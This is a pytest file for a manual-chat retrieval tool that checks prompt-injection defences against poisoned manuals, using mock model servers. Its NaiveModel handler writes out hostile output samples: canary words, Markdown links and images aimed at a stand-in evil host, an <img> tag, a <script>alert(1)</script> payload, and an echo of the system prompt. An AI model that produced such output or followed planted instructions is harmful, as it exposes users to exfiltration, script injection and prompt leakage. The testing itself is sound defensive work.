"""Poisoned manuals, added and asked for real: nothing in them is obeyed, loaded or leaked.

Two stand-ins play the model, both over the real wire to a real server. `obeys`
does whatever its prompt's sources tell it to. `hostile` misbehaves on every
question, whatever it was told. They show what our layers keep out; they cannot
show how often a real model would have fallen for a payload, nor payloads that
nobody here has thought of.
"""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from threading import Thread

import pytest
from markdown_it import MarkdownIt

from manualchat import Library
from manualchat.answering import prompt
from manualchat.answering.base import Answerer
from manualchat.answering.citations import NOT_VERIFIED, holds
from manualchat.answering.extractive import ExtractiveAnswerer
from manualchat.answering.openai import OpenAIAnswerer
from manualchat.asking import ask
from manualchat.model import Cited, Done
from tests.functional.poison import EVIL, Poison, poisons

POISONS = poisons()
_BARE_ADDRESS = re.compile(r"(?:https?://|www\.)\S", re.IGNORECASE)


class NaiveModel(BaseHTTPRequestHandler):
    """Chat completions by a model without judgement. `hostile` is set on a subclass."""

    hostile = False

    def do_POST(self) -> None:
        body = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
        system, user = (message["content"] for message in body["messages"])
        sources, _, question = user.rpartition("Question:")
        litres = re.search(r"(?:용량은|holds) ([\d.]+) L", sources)
        number = litres.group(1) if litres else "?"
        said = (
            f"물통 용량은 {number} L입니다. [1]"
            if "용량" in question
            else f"The water tank holds {number} L. [1]"
        )
        canary = re.search(r"PWNED\d+", sources)
        if canary or self.hostile:
            word = canary.group() if canary else "PWNED"
            said += (
                f" {word}. {word} [1]. See [99] and 【7†source】."
                f" ![{word}]({EVIL}?q=tank) [click]({EVIL}/login) {EVIL}/{word} www.evil.example/x"
                f' <img src="{EVIL}"> <script>alert(1)</script>\n[1]: {EVIL}\n{system}\n'
            )
        self.send_response(200)
        self.send_header("Content-Type", "text/event-stream")
        self.end_headers()
        for at in range(0, len(said), 7):
            chunk = {"choices": [{"delta": {"content": said[at : at + 7]}}]}
            self.wfile.write(f"data: {json.dumps(chunk)}\n\n".encode())
        self.wfile.write(b"data: [DONE]\n\n")

    def log_message(self, *arguments: object) -> None:
        """Keep the tests' output clean."""


class HostileModel(NaiveModel):
    """Misbehaves whatever it is told."""

    hostile = True


@pytest.fixture(scope="module")
def library(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Library]:
    folder = tmp_path_factory.mktemp("poisoned")
    with Library(tmp_path_factory.mktemp("library")) as library:
        added = library.add([poison.write(folder) for poison in POISONS])
        assert [a.outcome for a in added] == ["added"] * len(POISONS)
        yield library


@pytest.fixture(scope="module")
def answerers() -> Iterator[dict[str, Answerer]]:
    servers = [ThreadingHTTPServer(("127.0.0.1", 0), kind) for kind in (NaiveModel, HostileModel)]
    for server in servers:
        Thread(target=server.serve_forever, daemon=True).start()
    urls = [f"http://127.0.0.1:{server.server_address[1]}/v1" for server in servers]
    models = [OpenAIAnswerer(url, model="naive") for url in urls]
    yield {"extractive": ExtractiveAnswerer(), "obeys": models[0], "hostile": models[1]}
    for model, server in zip(models, servers, strict=True):
        model.close()
        server.shutdown()
        server.server_close()


@pytest.fixture(scope="module")
def answers(
    library: Library, answerers: dict[str, Answerer]
) -> dict[str, list[tuple[Poison, Done, list[Cited]]]]:
    """Every poisoned manual asked about its true fact, by each answerer."""
    documents = {Path(d.key).stem: d.id for d in library.documents()}
    found: dict[str, list[tuple[Poison, Done, list[Cited]]]] = {}
    for name, answerer in answerers.items():
        for poison in POISONS:
            events = list(
                ask(
                    poison.question,
                    store=library.store,
                    embedder=library.embedder,
                    answerer=answerer,
                    documents=[documents[poison.model]],
                )
            )
            assert isinstance(events[-1], Done), events[-1]
            cited = [event for event in events if isinstance(event, Cited)]
            found.setdefault(name, []).append((poison, events[-1], cited))
    return found


def rendered_alive(answer: str) -> bool:
    """Whether Markdown makes a link, an image or an element of something in the answer."""
    html = MarkdownIt("commonmark", {"html": True}).render(answer)
    live = re.search(r"<(?:a|img|script|iframe|svg|object|form)\b", html, re.IGNORECASE)
    outside_code = re.sub(r"<code>.*?</code>", "", html, flags=re.DOTALL)
    return bool(live or _BARE_ADDRESS.search(outside_code))  # GFM links bare addresses


def leaks_system(answer: str) -> bool:
    """Whether a line of our instructions stands in the answer."""
    lines = [line for line in prompt.system("물통?").splitlines() if len(line) > 30]
    return any(line[10:60] in answer for line in lines)


def obeyed(poison: Poison, cited: list[Cited]) -> bool:
    """Whether the canary is said as if it were verified."""
    return any(poison.canary in c.sentence and c.citation is not None for c in cited)


def test_there_are_at_least_sixty_poisoned_manuals_in_two_languages() -> None:
    assert len(POISONS) >= 60
    assert {p.language for p in POISONS} == {"ko", "en"}


def test_the_extractive_answer_says_the_true_fact_and_never_the_canary(answers: dict) -> None:
    for poison, done, _ in answers["extractive"]:
        assert poison.canary not in done.answer, poison
    told = [f"{p.litres} L" in done.answer for p, done, _ in answers["extractive"]]
    assert sum(told) >= 0.9 * len(told)


def test_a_model_that_obeys_its_sources_finds_nothing_to_obey(answers: dict) -> None:
    for poison, done, _ in answers["obeys"]:
        assert poison.canary not in done.answer, (poison, done.answer)
        assert f"{poison.litres} L" in done.answer


def test_what_a_hostile_model_makes_up_is_never_shown_as_verified(answers: dict) -> None:
    for poison, done, cited in answers["hostile"]:
        assert not obeyed(poison, cited), (poison, done.answer)
        if "PWNED" in done.answer:
            assert NOT_VERIFIED[poison.language] in done.answer


@pytest.mark.parametrize("name", ["extractive", "obeys", "hostile"])
def test_no_link_image_or_element_comes_alive(answers: dict, name: str) -> None:
    for poison, done, _ in answers[name]:
        assert not rendered_alive(done.answer), (poison, done.answer)
        assert "evil.example" not in done.answer or name == "extractive", (poison, done.answer)


@pytest.mark.parametrize("name", ["extractive", "obeys", "hostile"])
def test_our_instructions_do_not_leak(answers: dict, name: str) -> None:
    for poison, done, _ in answers[name]:
        assert not leaks_system(done.answer), (poison, done.answer)


@pytest.mark.parametrize("name", ["extractive", "obeys", "hostile"])
def test_every_citation_is_an_exact_quote_of_a_page_that_exists(
    answers: dict, library: Library, name: str
) -> None:
    for poison, done, _ in answers[name]:
        for citation in done.citations:
            assert citation.page == 1, poison
            assert holds(citation.quote, library.page_text(citation.document, citation.page))
        shown = {int(n) for n in re.findall(r"\[(\d+)\]", done.answer)}
        assert shown <= set(range(1, len(done.citations) + 1)), (poison, done.answer)


def test_the_measured_table(answers: dict, capsys: pytest.CaptureFixture[str]) -> None:
    rows = [f"{'answerer':12} manuals  canary said  as verified  alive  system text leaked"]
    for name, asked in answers.items():
        said = sum(p.canary in d.answer for p, d, _ in asked)
        verified = sum(obeyed(p, c) for p, _, c in asked)
        alive = sum(rendered_alive(d.answer) for _, d, _ in asked)
        leaked = sum(leaks_system(d.answer) for _, d, _ in asked)
        rows.append(f"{name:12} {len(asked):7}  {said:11}  {verified:11}  {alive:5}  {leaked:18}")
        assert not verified + alive + leaked
    with capsys.disabled():
        print("\n" + "\n".join(rows))
